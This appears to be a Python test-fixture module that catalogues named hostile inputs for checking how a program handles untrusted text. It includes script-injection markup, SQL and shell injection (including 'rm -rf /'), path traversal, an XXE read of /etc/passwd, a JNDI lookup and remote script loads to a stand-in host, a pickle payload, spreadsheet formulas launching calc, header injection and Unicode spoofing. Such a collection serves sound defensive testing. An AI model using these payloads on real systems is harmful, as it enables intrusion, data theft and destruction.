"""What strangers could write to make a program do something, each by a name that says how."""

import base64

_TAGS = "".join(chr(0xE0000 + ord(one)) for one in "scotland")
_ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "script never closed": "<script>alert(1)//",
    "picture with an error": "<img src=x onerror=alert(1)>",
    "picture elsewhere": '<img src="https://elsewhere.example/seen.png" width=1 height=1>',
    "svg that loads": "<svg/onload=alert(1)>",
    "svg that moves": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "details that open": "<details open ontoggle=alert(1)>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object><embed src=//elsewhere.example>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//elsewhere.example/x.css>",
    "base": "<base href=//elsewhere.example><meta http-equiv=refresh content=0;//e.example>",
    "form": "</form><form action=//elsewhere.example><input name=code autofocus onfocus=alert(1)>",
    "closing everything": "</textarea></title></style></script></body><script>alert(1)</script>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&NewLine;",
    "changing when cleaned": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template element": "<template><script>alert(1)</script></template><slot onclick=alert(1)>",
    "declaration": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
}
ATTRIBUTES = {
    "double quote": '" onmouseover="alert(1)" x="',
    "single quote": "' onfocus='alert(1)' autofocus='",
    "no quote": "x onpointerenter=alert(1) style=position:fixed;inset:0",
    "backtick": "`onload=alert(1)`",
    "address of a script": "javascript:alert(1)",
    "address in disguise": "java\tscript:alert(1)//",
    "address of data": f"data:text/html;base64,{_ENCODED}",
    "address without a scheme": "//elsewhere.example/%0d%0aset-cookie:a=b",
}
PROGRAMS = {
    "string breaker": "';alert(1);//\\';alert(1)//\"-alert(1)-\"",
    "prototype": '{"__proto__": {"admin": true}, "constructor": {"prototype": {}}}',
    "template": "{{7*7}} {% include 'base.html' %} {{ config }} {{ ''.__class__.__mro__ }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> @(7*7) [[${7*7}]]",
    "format": "{0} {name} {0.__class__.__init__.__globals__} {",
    "percent": "%s%s%s%n%x %(name)s %",
    "sql": "'; DROP TABLE incident; --",
    "sql that asks": "x' OR '1'='1' UNION SELECT sealed_post FROM mention --",
    "shell": "$(touch /tmp/got-you) `id` ; rm -rf / | cat && echo",
    "path": "../../../../etc/passwd\x00.png",
    "path of Windows": "..\\..\\CON\\aux.txt:stream",
    "log lookup": "${jndi:ldap://elsewhere.example/a}",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
}
CHATS = {
    "everybody called": "<!channel> <!here> <!everyone> @here",
    "somebody called": "<@U012AB3CD> <#C012AB3CD>",
    "link with a label": "<https://elsewhere.example|your record>",
    "marks": "*bold* _it_ ~gone~ `code` ```block``` > quote",
    "link in markdown": "[look](javascript:alert(1)) ![x](https://elsewhere.example/x.png)",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://elsewhere.example?x="&A1,"look")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a tab": "\t=1+1",
    "after a return": "\r=1+1",
    "after nothing": "\x00=1+1",
    "full width": "\uff1d1+1\uff0b\uff20",
    "quoted": '","=1+1","',
    "pipe": "|calc",
}
HEADERS = {
    "two lines": "x\r\nBcc: everybody@elsewhere.example\r\n\r\n<script>alert(1)</script>",
    "line feed alone": "x\nSet-Cookie: a=b",
    "return alone": "x\rX-Header: y",
    "folded": "x\r\n Subject: another",
    "line separators": "x\u2028Bcc: y\u2029z\x85w\x0bv\x0cu",
    "encoded word": "=?utf-8?q?=0ABcc=3A_x=40elsewhere=2Eexample?=",
}
LETTERS = {
    "right to left": "safe\u202egnp.exe\u202c",
    "isolates": "\u2067\u2068a\u2069 never closed \u2066",
    "zero width": "k\u200bi\u200cl\u200dl\u2060 \ufeffyou",
    "soft hyphens": "thr\u00adeat\u00ad" * 40,
    "zalgo": "Z" + "\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 60 + "a",
    "lone surrogates": "a\ud800b\udfffc",
    "not characters": "a\uffff\U0001ffff\ue000b",
    "nothing": "a\x00b\x01c\x7fd",
    "tag letters": "a" + _TAGS + "\U000e007f",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 30,
    "flags": "\U0001f1ec\U0001f1e7" * 50 + "\U0001f1ec",
    "blank letters": "\u3164\u2800\u115f" * 50,
    "wide sign": "\ufdfd" * 40,
    "escape codes": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J\x9b31m",
    "bells and backspaces": "all is well\x08\x08\x08\x08not\x07",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}
LONG = {
    "one long word": "W" * 5000,
    "a megabyte": "long " * 200_000,
    "many lines": "\n" * 5000 + "end",
    "deep": "[" * 5000 + "]" * 5000,
    "many entities": "&amp;" * 2000,
}
PAYLOADS = {
    **MARKUP,
    **ATTRIBUTES,
    **PROGRAMS,
    **CHATS,
    **FORMULAS,
    **HEADERS,
    **LETTERS,
    **LONG,
}
